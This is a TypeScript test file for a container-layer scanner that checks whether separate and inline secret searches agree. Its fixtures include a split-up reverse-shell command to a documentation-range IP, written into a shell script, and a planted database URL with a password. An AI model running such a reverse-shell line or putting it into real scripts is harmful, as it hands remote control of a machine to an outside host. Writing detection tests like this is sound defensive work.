import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { catalogers } from '#inventory/index.ts';
import { tarOf } from '../../test/kit/tar.ts';
import { analyseLayer, type LayerTask } from './layer-report.ts';
import { readerSet } from './reader-set.ts';
import { SLOT_BYTES } from './search-thread.ts';
import { wishesOf } from './wishes.ts';

const directory = mkdtempSync(join(tmpdir(), 'plimsoll-test-apart-'));
after(() => rmSync(directory, { recursive: true }));

// In pieces, so that nobody takes this file for a leak.
const password = ['postgres://app:', 'x7Kq9vLm2TzR', '@db.internal:5432/app'].join('');
const shell = ['bash -i >& /dev', '/tcp/203.0.113.7/4444 0>&1'].join('');
const large = `${'x'.repeat(SLOT_BYTES + 10)}\nDATABASE_URL=${password}\n`;

const layer = tarOf([
  { name: 'etc/app.conf', body: `DATABASE_URL=${password}\n` },
  { name: 'etc/empty.conf', body: '' },
  { name: 'etc/plain.conf', body: 'colour = blue\n' },
  { name: 'etc/plain.conf', body: 'colour = red\n' },
  { name: 'opt/run.sh', body: `#!/bin/sh\n${shell}\n`, mode: 0o755 },
  { name: 'srv/app/node_modules/left/package.json', body: '{"name":"left","version":"1.0.0"}' },
  { name: 'srv/large.env', body: large },
  ...Array.from({ length: 40 }, (_, index) => ({ name: `var/log/${index}.log`, body: 'y'.repeat(SLOT_BYTES / 16) })),
]);

for (const isLowest of [true, false]) {
  test(`a search beside the walk finds the same as one within it (${isLowest ? 'lowest' : 'upper'} layer)`, async () => {
    const path = join(directory, 'layer.tar');
    writeFileSync(path, layer);
    const search = { secrets: {}, malware: {} };
    const readers = await readerSet(catalogers, search);
    const source = { kind: 'file', path, offset: 0, length: layer.length } as const;
    const task: LayerTask = { source, wishes: wishesOf([...readers.inventory, ...readers.search]), search, isLowest };
    const within = await analyseLayer(task, readers);
    const beside = await analyseLayer({ ...task, searchesApart: true }, readers);
    assert.deepEqual(beside, within);
    const found = within.changes.flatMap((change) =>
      change.kind === 'file' && change.read?.['secrets'] ? change.path : [],
    );
    assert.deepEqual(found, ['etc/app.conf', 'srv/large.env']);
  });
}
